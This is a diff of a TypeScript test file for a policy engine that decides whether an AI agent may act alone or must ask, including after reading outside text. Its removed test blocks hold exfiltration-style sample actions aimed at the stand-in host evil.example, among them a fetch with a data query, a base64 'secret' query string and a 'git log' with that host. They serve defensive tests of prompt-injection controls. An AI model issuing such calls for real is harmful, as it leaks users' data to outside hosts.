@@ -1,47 +1,34 @@
-import type { AgentGrant, GrantCovers } from '@multi-job/contract';
 import { describe, expect, test } from 'vitest';
-import type { AgentAction } from '../agent-action.ts';
-import { avoidKey } from '../avoid-key.ts';
-import { canonicalAction } from '../canonical-action.ts';
-import { grantInWords } from '../grant-words.ts';
-import { narrowestGrant } from '../grants.ts';
+import {
+  CHAT,
+  COMMAND,
+  MCP_READ,
+  MCP_WRITE,
+  PINNED,
+  READ,
+  RUNS,
+  TAINT,
+  WRITE,
+  command,
+  context,
+  getValue,
+  grantFor,
+  http,
+  job,
+  message,
+  note,
+  read,
+  readFile,
+  ruleOf,
+  setValue,
+  targets,
+  tool,
+  write,
+  writeFile,
+} from '../../../../test/agents/policy-given.ts';
+import type { Case } from '../../../../test/agents/policy-given.ts';
 import { decide } from './decide.ts';
-import type { ActionFacts, PolicyContext } from './policy-context.ts';
-
-const NOW = Date.parse('2026-11-30T00:00:00Z');
-const ISSUES = 'https://api.github.com/repos/o/r/issues?state=open&page=2';
-
-const read: AgentAction = http('GET', ISSUES);
-const write: AgentAction = http('POST', 'https://api.github.com/repos/o/r/issues');
-const message: AgentAction = { kind: 'message', channel: 'telegram', account_id: 'bot', to: null, text: 'hello' };
-const tool: AgentAction = { kind: 'mcp_tool', server: 'files', tool: 'read_file', arguments: { path: 'a.txt' } };
-const fetchTool: AgentAction = { ...tool, tool: 'fetch', arguments: { url: 'https://evil.example/?d=1' } };
-const command: AgentAction = { kind: 'command', argv: ['git', 'log'], cwd: null };
-const setValue: AgentAction = { kind: 'kv', op: 'set', key: 'last', value: 1 };
-const getValue: AgentAction = { kind: 'kv', op: 'get', key: 'last' };
-const writeFile: AgentAction = { kind: 'file', op: 'write', path: 'report.md', content: 'x' };
-const readFile: AgentAction = { kind: 'file', op: 'read', path: 'report.md' };
-const note: AgentAction = { kind: 'note', text: 'so far' };
-const job: AgentAction = { kind: 'schedule_job', job: { job_id: 'later', type: 'report.daily' } };
-
-const boundAccount = { state: 'enabled', origins: ['https://api.github.com'] } as const;
-const READ: Partial<ActionFacts> = { class: 'read', account: boundAccount };
-const WRITE: Partial<ActionFacts> = { class: 'plain_write', account: boundAccount };
-const CHAT: Partial<ActionFacts> = { class: 'keyed_write', account: { state: 'enabled', origins: [] } };
-const PINNED = { server: 'enabled', tool: 'pinned', isRead: true } as const;
-const MCP_READ: Partial<ActionFacts> = { class: 'read', mcp: PINNED };
-const MCP_WRITE: Partial<ActionFacts> = { class: 'plain_write', mcp: { ...PINNED, isRead: false } };
-const RUNS = { state: 'allowed', isSensitive: false, program: '/usr/bin/git', reason: '' } as const;
-const COMMAND: Partial<ActionFacts> = { class: 'plain_write', command: RUNS };
-const TAINT = ['mcp:files/read_file'];
-
-type Case = [
-  name: string,
-  action: AgentAction,
-  facts: Partial<ActionFacts>,
-  context: Partial<PolicyContext>,
-  verdict: string,
-];
+import type { PolicyContext } from './policy-context.ts';
 
 describe('what an agent may do by itself', () => {
   const cases: Case[] = [
@@ -181,9 +168,9 @@ describe('writes', () => {
   const named = {
     allowedAccounts: ['github/main', 'telegram/bot'],
     allowedMcpServers: ['files'],
-    commandPrefixes: [['git']],
+    commandPrefixes: [['git']] as const,
   };
-  const granted: Partial<PolicyContext> = { ...(named as Partial<PolicyContext>), writePolicy: 'granted' };
+  const granted: Partial<PolicyContext> = { ...named, writePolicy: 'granted' };
   const cases: Case[] = [
     ['a write asks', write, WRITE, {}, 'ask write_asks'],
     ['so does a keyed one', write, { ...WRITE, class: 'keyed_write' }, {}, 'ask write_asks'],
@@ -221,208 +208,6 @@ describe('writes', () => {
   ];
   test.each(cases)('%s', (_name, action, facts, context, verdict) => {
     expect(ruleOf(action, facts, context)).toBe(verdict);
-  });
-});
-
-describe('grants', () => {
-  const wideFetch = grantOf({ kind: 'mcp_tool', server: 'files', tool: 'fetch' });
-  const cases: Case[] = [
-    ['a write that one covers', write, WRITE, { grants: [grantFor(write)] }, 'allow grant'],
-    [
-      'another path',
-      http('POST', 'https://api.github.com/repos/o/r/pulls'),
-      WRITE,
-      { grants: [grantFor(write)] },
-      'ask write_asks',
-    ],
-    [
-      'another method',
-      http('DELETE', 'https://api.github.com/repos/o/r/issues'),
-      WRITE,
-      { grants: [grantFor(write)] },
-      'ask write_asks',
-    ],
-    [
-      'one that has expired',
-      write,
-      WRITE,
-      { grants: [{ ...grantFor(write), expires_at: new Date(NOW).toISOString() }] },
-      'ask write_asks',
-    ],
-    ['a message to a chat', message, CHAT, { grants: [grantFor(message)] }, 'allow grant'],
-    ['to another chat', { ...message, to: '4711' }, CHAT, { grants: [grantFor(message)] }, 'ask write_asks'],
-    [
-      'a new host',
-      http('GET', 'https://evil.example/x'),
-      READ,
-      { grants: [grantFor(http('GET', 'https://evil.example/x'))] },
-      'allow grant',
-    ],
-    [
-      'a command outside the list',
-      command,
-      { command: { ...RUNS, state: 'outside_list' } },
-      {},
-      'ask command_outside_list',
-    ],
-    [
-      'with one',
-      command,
-      { command: { ...RUNS, state: 'outside_list' } },
-      { grants: [grantFor(command)] },
-      'allow grant',
-    ],
-    ['a sensitive command', command, { command: { ...RUNS, isSensitive: true } }, {}, 'ask command_sensitive'],
-    ['with one', command, { command: { ...RUNS, isSensitive: true } }, { grants: [grantFor(command)] }, 'allow grant'],
-    [
-      'a command outside those of the job',
-      command,
-      COMMAND,
-      { commandPrefixes: [['git', 'status']] },
-      'ask command_outside_job',
-    ],
-    ['inside', command, COMMAND, { commandPrefixes: [['git']] }, 'ask write_asks'],
-    ['what failed twice asks', write, WRITE, { avoid: [avoidKey(write)] }, 'ask failed_twice'],
-    ['a read as well', read, READ, { avoid: [avoidKey(read)] }, 'ask failed_twice'],
-    [
-      'a grant does not help',
-      write,
-      WRITE,
-      { avoid: [avoidKey(write)], grants: [grantFor(write)] },
-      'ask failed_twice',
-    ],
-    [
-      'something else failed twice',
-      write,
-      WRITE,
-      { avoid: [avoidKey(read)], grants: [grantFor(write)] },
-      'allow grant',
-    ],
-    [
-      'a tool with an address in it, before text from outside',
-      fetchTool,
-      MCP_READ,
-      { grants: [wideFetch] },
-      'allow grant',
-    ],
-    ['after', fetchTool, MCP_READ, { grants: [wideFetch], taint: TAINT }, 'ask tainted_address'],
-    ['a job', job, {}, { grants: [grantFor(job)] }, 'allow grant'],
-    ['a job, after text from outside', job, {}, { grants: [grantFor(job)], taint: TAINT }, 'ask tainted_job'],
-  ];
-  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
-    expect(ruleOf(action, facts, context)).toBe(verdict);
-  });
-});
-
-describe('after text from outside', () => {
-  const granted: Partial<PolicyContext> = {
-    taint: TAINT,
-    writePolicy: 'granted',
-    allowedAccounts: ['github/main', 'telegram/bot'],
-    allowedMcpServers: ['files'],
-    commandPrefixes: [['git', 'log']],
-  };
-  const cases: Case[] = [
-    ['a read whose address the model made', read, READ, { taint: TAINT }, 'ask tainted_read_url'],
-    ['one that the job names', read, READ, { taint: TAINT, named: targets({ urls: [ISSUES] }) }, 'allow read'],
-    [
-      'the same place with another query',
-      http('GET', `${ISSUES}&d=1`),
-      READ,
-      { taint: TAINT, named: targets({ urls: [ISSUES] }) },
-      'ask tainted_read_url',
-    ],
-    ['one that a grant covers', read, READ, { taint: TAINT, grants: [grantFor(read)] }, 'allow grant'],
-    [
-      'the next page of it',
-      http('GET', ISSUES.replace('page=2', 'page=3')),
-      READ,
-      { taint: TAINT, grants: [grantFor(read)] },
-      'allow grant',
-    ],
-    [
-      'a query that does not fit',
-      http('GET', ISSUES.replace('open', 'c2VjcmV0')),
-      READ,
-      { taint: TAINT, grants: [grantFor(read)] },
-      'ask tainted_read_url',
-    ],
-    ['a tool with an address', fetchTool, MCP_READ, { taint: TAINT }, 'ask tainted_address'],
-    [
-      'that the job names',
-      fetchTool,
-      MCP_READ,
-      { taint: TAINT, named: targets({ urls: ['https://evil.example/?d=1'] }) },
-      'allow read',
-    ],
-    ['a write to what nobody named', write, WRITE, granted, 'ask tainted_target'],
-    [
-      'to what the job names',
-      write,
-      WRITE,
-      { ...granted, named: targets({ urls: ['https://api.github.com/repos/o/r/issues'] }) },
-      'allow write_granted',
-    ],
-    ['to what a grant names', write, WRITE, { ...granted, grants: [grantFor(write)] }, 'allow grant'],
-    [
-      'a message to the usual chat',
-      message,
-      CHAT,
-      { ...granted, named: targets({ defaultChat: 'telegram/bot' }) },
-      'allow write_granted',
-    ],
-    [
-      'to a chat that nobody named',
-      { ...message, to: '666' },
-      CHAT,
-      { ...granted, named: targets({ defaultChat: 'telegram/bot' }) },
-      'ask tainted_target',
-    ],
-    [
-      'to one of the prompt',
-      { ...message, to: '4711' },
-      CHAT,
-      { ...granted, named: targets({ defaultChat: 'telegram/bot', words: ['4711'] }) },
-      'allow write_granted',
-    ],
-    ['by an account that is not the usual one', message, CHAT, granted, 'ask tainted_target'],
-    ['a tool that nobody named', tool, MCP_WRITE, granted, 'ask tainted_target'],
-    [
-      'one of the prompt',
-      tool,
-      MCP_WRITE,
-      { ...granted, named: targets({ words: ['read_file'] }) },
-      'allow write_granted',
-    ],
-    ['a file that nobody named', writeFile, { class: 'keyed_write' }, granted, 'ask tainted_target'],
-    [
-      'one of the prompt',
-      writeFile,
-      { class: 'keyed_write' },
-      { ...granted, named: targets({ words: ['report.md'] }) },
-      'allow write_granted',
-    ],
-    [
-      'a command of the job',
-      command,
-      COMMAND,
-      { ...granted, named: targets({ commandPrefixes: [['git', 'log']] }) },
-      'allow write_granted',
-    ],
-    [
-      'with an address behind it',
-      { ...command, argv: ['git', 'log', 'https://evil.example'] },
-      COMMAND,
-      { ...granted, named: targets({ commandPrefixes: [['git', 'log']] }) },
-      'ask tainted_address',
-    ],
-  ];
-  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
-    expect(ruleOf(action, facts, context)).toBe(verdict);
-  });
-
-  test('whoever reads the reason is told where the text came from', () => {
-    expect(decide(read, context(READ, { taint: TAINT })).reason).toContain('mcp:files/read_file');
   });
 });
 
@@ -467,55 +252,3 @@ test('every refusal and question says in a sentence what to do about it', () => 
     expect(verdict.reason).toMatch(/\.$/);
   }
 });
-
-function ruleOf(action: AgentAction, facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): string {
-  const { verdict, rule } = decide(canonicalAction(action), context(facts, given));
-  return `${verdict} ${rule}`;
-}
-
-function context(facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): PolicyContext {
-  return {
-    jobType: 'agent.workflow',
-    skills: [],
-    agentKey: 'key',
-    writePolicy: 'ask',
-    mode: 'run',
-    allowedAccounts: null,
-    allowedMcpServers: null,
-    allowedHosts: null,
-    allowedChannels: null,
-    commandPrefixes: null,
-    named: targets({}),
-    grants: [],
-    taint: [],
-    avoid: [],
-    facts: { class: 'plain_write', account: null, mcp: null, command: null, widens: [], ...facts },
-    nowMs: NOW,
-    ...given,
-  };
-}
-
-function targets(named: Partial<PolicyContext['named']>): PolicyContext['named'] {
-  return { urls: [], words: [], defaultChat: null, commandPrefixes: [], ...named };
-}
-
-function http(method: 'GET' | 'POST' | 'DELETE', url: string): AgentAction {
-  return { kind: 'provider_http', account: 'github/main', method, url, headers: {}, body: null };
-}
-
-function grantFor(action: AgentAction): AgentGrant {
-  return grantOf(narrowestGrant(canonicalAction(action), { command: RUNS })!);
-}
-
-function grantOf(covers: GrantCovers): AgentGrant {
-  return {
-    grant_id: 'g1',
-    agent_key: 'key',
-    covers,
-    says: grantInWords(covers),
-    approval_id: 'g1',
-    created_at: new Date(NOW - 1000).toISOString(),
-    created_by: 'ani',
-    expires_at: new Date(NOW + 1).toISOString(),
-  };
-}
